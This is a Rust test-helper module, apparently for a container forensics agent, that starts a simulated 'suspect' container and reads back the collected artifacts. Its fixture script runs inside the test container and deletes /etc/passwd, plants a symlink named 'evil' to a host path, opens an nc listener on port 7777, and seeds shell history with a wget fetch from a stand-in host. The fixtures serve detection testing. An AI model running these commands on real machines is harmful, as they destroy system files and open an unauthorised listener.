//! Shared pieces of the agent tests: suspect containers (containerd via `ctr`, Docker via the
//! `docker` CLI), reading artifacts back, decoding tar.zst.

use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

pub fn sha256(b: &[u8]) -> String {
    hex::encode(Sha256::digest(b))
}

pub fn unique(prefix: &str) -> String {
    let n = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().subsec_nanos();
    format!("{prefix}-{:x}{:x}", n, std::process::id())
}

/// The suspect's script: writes a file, deletes one from the image, changes one, runs a binary
/// it then deletes, listens on TCP 7777, plants a symlink to a host path, leaves a shell history.
pub fn suspect_script(host_link: &str) -> String {
    format!(
        "echo suspect-up; echo planted-4242 > /tmp/new.txt; rm /etc/passwd; echo changed >> /etc/group; \
         cp /bin/busybox /tmp/sleep; /tmp/sleep 1000 & sleep 0.5; rm /tmp/sleep; \
         ln -s {host_link} /tmp/evil; mkdir -p /root; echo 'wget http://example.invalid/x.sh' > /root/.ash_history; \
         nc -l -p 7777 & echo ready > /tmp/ready; while true; do sleep 1000; done"
    )
}

/// A container run by containerd through `ctr`, removed (with its snapshot) when dropped.
pub struct CtrContainer {
    pub sock: String,
    pub ns: String,
    pub name: String,
}

impl CtrContainer {
    pub fn ctr(&self, args: &[&str]) -> std::process::Output {
        Command::new("ctr").args(["--address", &self.sock, "-n", &self.ns]).args(args).output().expect("ctr runs")
    }

    pub fn run(sock: &str, image: &str, name: &str, script: &str) -> Self {
        let c = CtrContainer { sock: sock.into(), ns: "k8s.io".into(), name: name.into() };
        let out = c.ctr(&["run", "-d", image, name, "sh", "-c", script]);
        assert!(out.status.success(), "ctr run failed: {}", String::from_utf8_lossy(&out.stderr));
        c
    }

    pub fn pid(&self) -> i32 {
        let out = self.ctr(&["task", "ls"]);
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .find_map(|l| {
                let f: Vec<&str> = l.split_whitespace().collect();
                (f.first() == Some(&self.name.as_str())).then(|| f[1].parse().ok()).flatten()
            })
            .expect("task listed")
    }
}

impl Drop for CtrContainer {
    fn drop(&mut self) {
        let _ = self.ctr(&["task", "kill", "-s", "KILL", &self.name]);
        for _ in 0..50 {
            if self.ctr(&["task", "rm", "-f", &self.name]).status.success() {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let _ = self.ctr(&["containers", "rm", &self.name]);
    }
}

/// Wait until the suspect in `pid` is ready: its marker file exists and it listens on 7777.
pub fn wait_suspect(pid: i32) {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let ready = Path::new(&format!("/proc/{pid}/root/tmp/ready")).exists();
        let listening = ["tcp", "tcp6"].iter().any(|t| {
            std::fs::read_to_string(format!("/proc/{pid}/net/{t}"))
                .map(|s| s.lines().any(|l| l.contains(":1E61 ") && l.split_whitespace().nth(3) == Some("0A")))
                .unwrap_or(false)
        });
        if ready && listening {
            return;
        }
        assert!(Instant::now() < deadline, "suspect {pid} not ready (ready={ready}, listening={listening})");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Entries of a tar.zst: path → (entry type, content, link target).
pub fn tar_zst_entries(p: &Path) -> BTreeMap<String, (tar::EntryType, Vec<u8>, Option<String>)> {
    let f = std::fs::File::open(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
    tar_entries(zstd::Decoder::new(f).unwrap())
}

pub fn tar_entries(r: impl Read) -> BTreeMap<String, (tar::EntryType, Vec<u8>, Option<String>)> {
    let mut a = tar::Archive::new(r);
    let mut m = BTreeMap::new();
    for e in a.entries().unwrap() {
        let mut e = e.unwrap();
        let path = e.path().unwrap().to_string_lossy().into_owned();
        let kind = e.header().entry_type();
        let link = e.link_name().unwrap().map(|l| l.to_string_lossy().into_owned());
        let mut data = vec![];
        e.read_to_end(&mut data).unwrap();
        m.insert(path, (kind, data, link));
    }
    m
}

pub fn json(p: &Path) -> serde_json::Value {
    let s = std::fs::read(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
    serde_json::from_slice(&s).unwrap()
}

/// Every artifact listed in index.json exists with the recorded size and SHA-256.
pub fn check_index(out: &Path) -> serde_json::Value {
    let idx = json(&out.join("index.json"));
    for a in idx["artifacts"].as_array().unwrap() {
        let p: PathBuf = out.join(a["path"].as_str().unwrap());
        let b = std::fs::read(&p).unwrap();
        assert_eq!(a["bytes"].as_u64().unwrap(), b.len() as u64, "{}", p.display());
        assert_eq!(a["sha256"].as_str().unwrap(), sha256(&b), "{}", p.display());
    }
    idx
}

/// (kind, path) of diff.json's changes.
pub fn changes(diff: &serde_json::Value) -> Vec<(String, String)> {
    diff["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["kind"].as_str().unwrap().to_string(), c["path"].as_str().unwrap().to_string()))
        .collect()
}
